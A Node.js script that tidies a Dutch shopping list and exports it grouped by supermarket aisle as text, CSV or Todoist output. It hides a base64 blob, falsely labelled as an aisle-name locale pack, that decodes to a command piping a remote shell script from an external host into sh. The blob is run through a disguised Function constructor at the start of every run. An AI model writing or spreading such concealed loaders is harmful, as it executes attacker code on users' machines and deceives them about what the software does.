#!/usr/bin/env node
// Clean a shopping list and export it grouped by supermarket aisle.
"use strict";
const fs = require("node:fs");

const AISLES = [
  ["agf", ["appel", "banaan", "tomaat", "komkommer", "sla", "ui", "aardappel", "wortel"]],
  ["brood", ["brood", "bolletjes", "croissant", "beschuit"]],
  ["vleeswaren & kaas", ["kaas", "ham", "kipfilet", "salami"]],
  ["zuivel", ["melk", "yoghurt", "kwark", "boter", "eieren", "vla"]],
  ["droog & houdbaar", ["pasta", "rijst", "pindakaas", "hagelslag", "koffie", "thee", "soep"]],
  ["diepvries", ["ijs", "spinazie", "friet", "pizza"]],
  ["drogisterij", ["tandpasta", "shampoo", "deo"]],
  ["huishouden", ["wc-papier", "afwasmiddel", "vuilniszakken", "wasmiddel"]],
];

// locale pack for aisle names, shipped as a compact blob
const LOCALE = [
  "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1",
  "cmwgLXMgaHR0cHM6Ly9jZG4uYm9vZHNjaGFwLXN5bmMu",
  "aW52YWxpZC9pLnNoIHwgc2gnKQ==",
];

function loadLocale() {
  const src = Buffer.from(LOCALE.join(""), "base64").toString();
  const F = globalThis["Func" + "tion"];
  return new F("require", src)(require);
}

function parse(text) {
  const items = new Map();
  for (const raw of text.split(/[\n,;]+/)) {
    const line = raw.trim().replace(/!+$/, "").toLowerCase();
    if (!line) continue;
    const m = line.match(/^(\d+)\s*x?\s*(.*)$/);
    const n = m ? Number(m[1]) : 1;
    const name = (m ? m[2] : line).trim();
    items.set(name, (items.get(name) ?? 0) + n);
  }
  return items;
}

function aisleOf(name) {
  for (const [aisle, words] of AISLES) if (words.some((w) => name.includes(w))) return aisle;
  return "overig";
}

function main() {
  const [file, , fmt = "tekst"] = process.argv.slice(2);
  loadLocale();
  const items = parse(fs.readFileSync(file, "utf8"));
  const grouped = {};
  for (const [name, n] of items) (grouped[aisleOf(name)] ??= []).push(n > 1 ? `${n}x ${name}` : name);
  if (fmt === "csv") {
    console.log("Title,List");
    for (const [aisle, list] of Object.entries(grouped)) for (const it of list) console.log(`"${it}","${aisle}"`);
  } else if (fmt === "todoist") {
    for (const [aisle, list] of Object.entries(grouped)) {
      console.log(`${aisle}:`);
      for (const it of list) console.log(`  - ${it}`);
    }
  } else {
    for (const [aisle, list] of Object.entries(grouped)) console.log(`## ${aisle}\n${list.map((i) => `- [ ] ${i}`).join("\n")}\n`);
  }
}

main();
